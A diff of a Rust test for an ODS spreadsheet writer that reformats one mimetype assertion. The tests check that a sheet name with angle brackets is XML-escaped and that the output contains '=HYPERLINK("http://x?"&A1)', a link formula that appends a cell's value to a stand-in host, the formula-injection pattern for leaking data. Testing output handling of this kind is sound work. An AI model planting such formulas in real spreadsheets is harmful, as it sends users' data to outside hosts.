@@ -98,7 +98,10 @@ mod tests {
         let bytes = ods("Deelnemers <1>", &table()).unwrap_or_default();
         // The mimetype is the first entry, stored: readable at a fixed offset.
         assert_eq!(&bytes[30..38], b"mimetype");
-        assert_eq!(&bytes[38..38 + "application/vnd.oasis.opendocument.spreadsheet".len()], b"application/vnd.oasis.opendocument.spreadsheet");
+        assert_eq!(
+            &bytes[38..38 + "application/vnd.oasis.opendocument.spreadsheet".len()],
+            b"application/vnd.oasis.opendocument.spreadsheet"
+        );
         let text = String::from_utf8_lossy(&bytes);
         assert!(text.contains(r#"table:name="Deelnemers &lt;1&gt;""#));
         assert!(text.contains("=HYPERLINK(&quot;http://x?&quot;&amp;A1)"));
